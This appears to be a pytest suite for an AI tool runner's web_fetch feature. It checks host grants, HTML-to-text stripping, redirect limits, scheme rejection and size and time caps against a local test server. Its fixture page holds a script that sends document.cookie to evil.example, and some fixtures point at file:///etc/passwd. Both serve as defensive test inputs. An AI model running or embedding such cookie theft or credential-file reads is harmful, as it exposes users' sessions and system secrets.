"""web_fetch against a real HTTP server on loopback: off by default, per-host grants, text only, no host hopping."""

from __future__ import annotations

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Iterator

import pytest
from sqlalchemy.orm import sessionmaker

from edgemind.core.storage.db import open_database
from edgemind.core.tools.permissions import Answer, PermissionRequest
from edgemind.core.settings import Settings, load_settings
from edgemind.core.tools.runner import ToolRunner
from edgemind.core.tools.session import open_tool_runner
from edgemind.plugins.builtin.web_fetch import MAX_BYTES, fetch_text, html_to_text

PAGE = """<!DOCTYPE html>
<html><head><title>Ignored title</title><style>body { color: red }</style>
<script>var stolen = "SCRIPT-BODY"; fetch('http://evil.example/' + document.cookie)</script></head>
<body><h1>Opening hours</h1><p>The library opens at <b>9&nbsp;am</b> &amp; closes at 5 pm.</p>
<noscript>NOSCRIPT-BODY</noscript><ul><li>Monday</li><li>Tuesday</li></ul>
<script type="application/ld+json">{"SCRIPT-JSON": 1}</script></body></html>"""


class Site(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        Site.hits.append(self.path)
        port = self.server.server_address[1]
        routes = {
            "/page": (200, "text/html; charset=utf-8", PAGE.encode()),
            "/plain": (200, "text/plain; charset=utf-8", "line one\nline two\n".encode()),
            "/long": (200, "text/plain", ("0123456789" * 5_000).encode()),
            "/huge": (200, "text/plain", b"y" * (MAX_BYTES + 500_000)),
            "/no-head-end": (200, "text/html", b"<html><head><title>t</title><body><p>Body text here</p></body></html>"),
            "/missing": (404, "text/plain", b"nope"),
        }
        redirects = {
            "/hop-same": f"http://127.0.0.1:{port}/page",
            "/hop-relative": "/plain",
            "/hop-away": f"http://localhost:{port}/landed",
            "/hop-file": "file:///etc/passwd",
            "/hop-loop": "/hop-loop",
        }
        if self.path == "/trickle":  # a byte every 50 ms, for a minute: each read is quick, the whole is not
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", "1200")
            self.end_headers()
            try:
                for _ in range(1200):
                    self.wfile.write(b"z")
                    self.wfile.flush()
                    time.sleep(0.05)
            except OSError:  # the client hung up, as it should
                pass
            return
        if self.path in redirects:
            self.send_response(302)
            self.send_header("Location", redirects[self.path])
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        status, kind, body = routes.get(self.path, (200, "text/plain", b"landed somewhere"))
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def site(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        monkeypatch.delenv(name, raising=False)  # a proxy of whoever runs the tests must not sit in between
    Site.hits = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def _runner(settings: Settings, grants: list[str], ask=None) -> ToolRunner:  # type: ignore[no-untyped-def]
    return open_tool_runner(settings, sessionmaker(open_database(settings.db_path)), grants=grants, ask=ask)


@pytest.fixture
def enabled(env: dict[str, str]) -> Settings:
    return load_settings(env={**env, "EDGEMIND_WEB_FETCH": "1"})


def test_off_by_default_with_a_clear_error(settings: Settings, site: str) -> None:
    assert settings.web_fetch_enabled is False
    outcome = _runner(settings, ["net:127.0.0.1"]).call("web_fetch", {"url": f"{site}/page"})
    assert not outcome.ok
    assert outcome.content == "error: web_fetch is off; turn it on with web_fetch_enabled = true in settings.toml"
    assert Site.hits == []


def test_needs_a_grant_for_the_host(enabled: Settings, site: str) -> None:
    asked: list[PermissionRequest] = []

    def ask(request: PermissionRequest) -> Answer:
        asked.append(request)
        return Answer.DENY

    needed = f"net:{site.removeprefix('http://')}"  # the port is part of the need: it is not the default one
    for runner in (_runner(enabled, []), _runner(enabled, ["net:example.org"]), _runner(enabled, [], ask)):
        outcome = runner.call("web_fetch", {"url": f"{site}/page"})
        assert outcome.decision.startswith("denied") and outcome.scopes == (needed,)
    assert asked[0].scopes == (needed,)
    assert Site.hits == []


def test_fetches_html_as_text_with_a_grant(enabled: Settings, site: str) -> None:
    outcome = _runner(enabled, ["net:127.0.0.1"]).call("web_fetch", {"url": f"{site}/page"})
    assert outcome.ok and outcome.decision == "allowed:preset", outcome.content
    # entities decoded, runs of white space (a no-break space too) read as one space
    assert outcome.content == "Opening hours\nThe library opens at 9 am & closes at 5 pm.\nMonday\nTuesday"
    for hidden in ("SCRIPT-BODY", "SCRIPT-JSON", "NOSCRIPT-BODY", "color: red", "Ignored title", "<"):
        assert hidden not in outcome.content


def test_plain_text_comes_back_as_it_is(enabled: Settings, site: str) -> None:
    outcome = _runner(enabled, ["net:127.0.0.1"]).call("web_fetch", {"url": f"{site}/plain"})
    assert outcome.content == "line one\nline two\n"


def test_a_page_that_omits_the_end_of_head_still_shows_its_body(enabled: Settings, site: str) -> None:
    outcome = _runner(enabled, ["net:127.0.0.1"]).call("web_fetch", {"url": f"{site}/no-head-end"})
    assert outcome.content == "Body text here"


def test_html_to_text_drops_script_and_style() -> None:
    assert html_to_text("<p>a<script>b</script>c</p><style>d</style><div>e</div>") == "ac\ne"


def test_character_limit(enabled: Settings, site: str) -> None:
    runner = _runner(enabled, ["net:127.0.0.1"])
    outcome = runner.call("web_fetch", {"url": f"{site}/long", "max_chars": 120})
    assert outcome.content == ("0123456789" * 12) + "\n[... truncated]"
    # the floor of 100 characters holds whatever the model asks for
    assert runner.call("web_fetch", {"url": f"{site}/long", "max_chars": 1}).content.startswith("0123456789" * 10 + "\n")


def test_byte_limit_on_a_huge_body(enabled: Settings, site: str) -> None:
    outcome = _runner(enabled, ["net:127.0.0.1"]).call("web_fetch", {"url": f"{site}/huge", "max_chars": 10**9})
    assert outcome.ok
    assert len(outcome.content) <= 16_100  # the runner's cap on what reaches the model
    assert outcome.content.startswith("y" * 1000) and "truncated" in outcome.content


def test_a_redirect_within_the_host_is_followed(enabled: Settings, site: str) -> None:
    runner = _runner(enabled, ["net:127.0.0.1"])
    assert runner.call("web_fetch", {"url": f"{site}/hop-same"}).content.startswith("Opening hours")
    assert runner.call("web_fetch", {"url": f"{site}/hop-relative"}).content == "line one\nline two\n"


def test_a_redirect_to_another_host_is_not_followed(enabled: Settings, site: str) -> None:
    outcome = _runner(enabled, ["net:127.0.0.1"]).call("web_fetch", {"url": f"{site}/hop-away"})
    assert not outcome.ok
    port = site.rsplit(":", 1)[1]
    assert f"redirects to another host (localhost:{port}); not followed" in outcome.content
    assert "/landed" not in Site.hits


def test_a_redirect_to_a_file_url_or_in_a_loop_stops(enabled: Settings, site: str) -> None:
    runner = _runner(enabled, ["net:127.0.0.1"])
    outcome = runner.call("web_fetch", {"url": f"{site}/hop-file"})
    assert not outcome.ok and "only http and https" in outcome.content and "root:" not in outcome.content
    outcome = runner.call("web_fetch", {"url": f"{site}/hop-loop"})
    assert not outcome.ok and "redirects" in outcome.content
    assert Site.hits.count("/hop-loop") == 4


def test_http_errors_are_reported(enabled: Settings, site: str) -> None:
    outcome = _runner(enabled, ["net:127.0.0.1"]).call("web_fetch", {"url": f"{site}/missing"})
    assert not outcome.ok and outcome.content.endswith("answered HTTP 404")


@pytest.mark.parametrize(("url", "message"), [
    ("file:///etc/passwd", "only http and https URLs"),
    ("ftp://127.0.0.1/file.txt", "only http and https URLs"),
    ("gopher://127.0.0.1/", "only http and https URLs"),
    ("127.0.0.1/page", "only http and https URLs"),
    ("http://user:pass@127.0.0.1/page", "URLs with credentials are not allowed"),
    ("http://user@127.0.0.1/page", "URLs with credentials are not allowed"),
    ("http:///page", "URL has no host"),
])
def test_other_schemes_and_credentials_are_rejected(enabled: Settings, site: str, url: str, message: str) -> None:
    outcome = _runner(enabled, ["net:127.0.0.1"]).call("web_fetch", {"url": url})
    assert outcome.decision == "rejected" and message in outcome.content
    assert Site.hits == []


def test_a_page_that_trickles_in_is_cut_off_at_the_deadline(site: str) -> None:
    started = time.monotonic()
    text = fetch_text(f"{site}/trickle", deadline_s=1.0)
    elapsed = time.monotonic() - started
    assert elapsed < 2.5, elapsed  # one read after the deadline at most, not the minute the server would take
    assert text.startswith("z") and text.endswith("[... stopped: the page was still arriving after 1 s]")
